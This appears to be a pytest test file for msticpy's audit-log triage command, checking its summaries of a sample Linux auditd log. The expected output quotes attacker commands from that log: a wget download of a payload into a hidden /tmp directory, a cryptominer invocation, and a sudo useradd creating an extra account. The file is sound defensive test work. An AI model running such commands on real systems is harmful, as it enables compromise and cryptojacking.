"""``python -m msticpy triage`` on a Linux audit log."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from msticpy.cli.triage_auditd import looks_like_audit_log, sample_path


def run(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "msticpy", "triage", *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_audit_log_is_recognised(tmp_path: Path) -> None:
    assert looks_like_audit_log(sample_path())
    other = tmp_path / "proxy.log"
    other.write_text("GET http://example.com/ 200\n" * 5)
    assert not looks_like_audit_log(str(other))
    assert not looks_like_audit_log(str(tmp_path / "missing.log"))


def test_triage_summarises_events_and_commands() -> None:
    proc = run(sample_path())
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout
    assert "Audit log triage of" in text
    assert "11  SYSCALL_EXECVE" in text
    assert "wget -q -O /tmp/.k/kworkerd http://198.51.100.23/xmr" in text
    assert "/tmp/.k/kworkerd" in text.split("temporary directories:")[1]
    assert "useradd -m -s /bin/bash backup2" in text.split("sudo commands:")[1]
    assert "5  acct=root addr=203.0.113.45" in text
    assert "no_msg_id=1" in text


def test_triage_json_report() -> None:
    proc = run(sample_path(), "--json", "--top", "20", "--progress", "always")
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)
    assert report["lines"] == 69
    assert report["event_types"]["SYSCALL_EXECVE"] == 11
    assert report["event_types"]["USER_AUTH"] == 7
    commands = {c["cmdline"]: c for c in report["commands"]["top"]}
    # The full command line (triage reads it with full_cmdline=True), not msticpy's 3 args.
    miner = "/tmp/.k/kworkerd -o pool.example.net:3333 --donate-level 1"
    assert commands[miner]["uids"] == ["33"]
    assert commands["ls -la"]["count"] == 2
    assert report["commands"]["failed"] == 1
    assert report["sudo_commands"] == [
        {"cmd": "useradd -m -s /bin/bash backup2", "uid": "1000", "count": 1}
    ]
    assert report["auth_failures"][0] == {"acct": "root", "addr": "203.0.113.45", "count": 5}
    assert report["status"] == {"no_msg_id": 1}
    assert "%" in proc.stderr or "B/s" in proc.stderr or "#" in proc.stderr  # progress bar


def test_pairs_are_counted_on_object_columns_with_ties_in_first_seen_order() -> None:
    import pandas as pd

    from msticpy.cli.triage_auditd import _counts, _pair_counts

    # object columns (pandas 2's default): a NUL-joined key used to lose its separator
    frame = pd.DataFrame(
        {
            "cmd": pd.Series(["'id'", "ls", "id", "ls", "cat x"], dtype=object),
            "uid": pd.Series(["0", "1000", "0", "1000", None], dtype=object),
        }
    )
    assert _pair_counts(frame, "cmd", "uid", 10) == (
        [(("id", "0"), 2), (("ls", "1000"), 2), (("cat x", ""), 1)],
        3,
    )
    assert _pair_counts(frame, "cmd", "missing", 1) == ([(("id", ""), 2)], 3)
    # pandas 2.2's value_counts orders these ties otherwise (o before d and p, ...)
    values = pd.Series(list("ecidpopmgdpamnaoihdkaaaamgnahophlhhojand"), dtype=object)
    assert "".join(_counts(values).index) == "ahdpomnigecklj"


def test_audit_report_says_what_was_cut(capsys: pytest.CaptureFixture[str]) -> None:
    from msticpy.cli import main

    assert main(["triage", sample_path(), "--json", "--top", "1"]) == 0
    report = json.loads(capsys.readouterr().out)
    commands = report["commands"]
    assert report["more"]["commands"] == commands["distinct"] - 1 > 0
    assert report["more"]["auth_failures"] >= 1 and report["truncated"] is True
    assert main(["triage", sample_path(), "--top", "1"]) == 0
    text = capsys.readouterr().out
    assert f"... and {report['more']['commands']} more" in text
    assert main(["triage", sample_path(), "--json", "--top", "100"]) == 0
    whole = json.loads(capsys.readouterr().out)
    assert whole["truncated"] is False and not any(whole["more"].values())
